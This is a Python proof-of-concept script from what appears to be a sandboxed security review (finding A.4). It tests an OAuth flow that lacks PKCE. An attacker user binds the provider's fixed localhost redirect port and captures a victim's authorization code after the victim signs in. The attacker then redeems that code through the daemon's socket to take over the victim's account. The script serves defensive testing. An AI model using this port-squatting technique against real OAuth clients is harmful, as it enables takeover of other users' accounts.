"""Security review A.4: takes a provider's fixed redirect port and signs in as the person who is
redirected there.

Findings: A.4, M2

    squat_redirect_port.py SOCKET PORT FREEDOM

SOCKET is the daemon's app socket, PORT the fixed redirect port of its provider "freedom" (type
freedomid, mode oauth2: no PKCE), FREEDOM the address of that provider in the sandbox. Runs as root,
and becomes the attacker (uid 4002, group 4242) and the victim (uid 4001, group 4242).
"""

import http.client
import http.server
import json
import os
import re
import sys
import threading
import urllib.parse

from attack import PATIENCE, Connection, impossible, refused, succeeded, unprepared
from harness import die_with_parent

GROUP = 4242
GRANTS = {"grants": ["read.firstname"]}


def become(uid):
    os.setgroups([GROUP])
    os.setgid(uid)
    os.setuid(uid)
    die_with_parent()


def start(path):
    client = Connection(path)
    call = {"provider": "freedom", "kind": "authorize", "params": GRANTS, "waitMs": 60_000}
    return client, client.reply("flow.start", call)["result"]["flow"]


class Squatter(http.server.BaseHTTPRequestHandler):
    stolen = None

    def do_GET(self):
        Squatter.stolen = self.path
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_):
        pass


def attacker(path, port, commands, answers):
    become(4002)
    server = http.server.HTTPServer(("127.0.0.1", port), Squatter)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    print("squatting", file=answers, flush=True)
    commands.readline()
    if Squatter.stolen is None:
        return print("nothing came", file=answers, flush=True)
    query = urllib.parse.parse_qs(urllib.parse.urlsplit(Squatter.stolen).query)
    code = (query.get("code") or query["authorization_code"])[0]
    client, flow = start(path)
    if flow["status"] != "active":
        return print("the code came, and is of no use:", flow["failure"], file=answers, flush=True)
    url = flow["step"]["redirectURI"] + "?code=" + code
    client.reply("flow.submit", {
        "flow": flow["id"], "revision": flow["revision"], "waitMs": 60_000,
        "input": {"type": "openURL", "redirectURL": url}})
    end = client.reply("flow.get", {"flow": flow["id"]})["result"]["flow"]
    accounts = client.reply("account.list")["result"]["accounts"]
    print("ATTACKED" if accounts else "refused", end["status"], json.dumps(accounts),
          file=answers, flush=True)


def request(method, url, form=None):
    parts = urllib.parse.urlsplit(url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=PATIENCE)
    body = urllib.parse.urlencode(form) if form else None
    headers = {"Content-Type": "application/x-www-form-urlencoded"} if form else {}
    connection.request(method, parts.path + ("?" + parts.query if parts.query else ""), body, headers)
    reply = connection.getresponse()
    return reply, reply.read().decode()


def press(form, fields, page, freedom):
    hidden = dict(re.findall(r'name="(transaction|csrf)" value="([^"]*)"', page))
    return request("POST", f"{freedom}/{form}", fields | hidden)


def victim(path, freedom):
    """Does what the daemon's step requests: signs in on the page, and follows the redirects."""
    become(4001)
    _, flow = start(path)
    if flow["status"] != "active":
        return flow["failure"]["message"]
    page = request("GET", flow["step"]["url"])[1]
    sign_in = {"action": "login", "name": "alice@example.com", "password": "alice-password"}
    page = press("login", sign_in, page, freedom)[1]
    reply = press("consent", {"decision": "allow"}, page, freedom)[0]
    request("GET", reply.getheader("Location"))
    return None


def main(path, port, freedom):
    if os.getuid() != 0:
        impossible("only root can become two users")
    commands, to_attacker = os.pipe()
    answers, from_attacker = os.pipe()
    if os.fork() == 0:
        with os.fdopen(commands) as orders, os.fdopen(from_attacker, "w") as reports:
            attacker(path, port, orders, reports)
        os._exit(0)
    os.close(from_attacker)
    reports = os.fdopen(answers)
    if reports.readline() != "squatting\n":
        unprepared(f"port {port} cannot be taken")
    told, tell = os.pipe()
    if os.fork() == 0:
        os.write(tell, json.dumps(victim(path, freedom)).encode())
        os._exit(0)
    os.close(tell)
    sentence = os.fdopen(told).read()
    os.write(to_attacker, b"go\n")
    verdict = reports.readline().strip()
    if not sentence:
        unprepared("the victim's program failed")
    if verdict.startswith("ATTACKED"):
        succeeded("the attacker has the victim's account: " + verdict)
    if sentence == "null":
        succeeded("the victim was sent to the provider while another user holds the redirect port: "
                  + verdict)
    refused(sentence)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3])
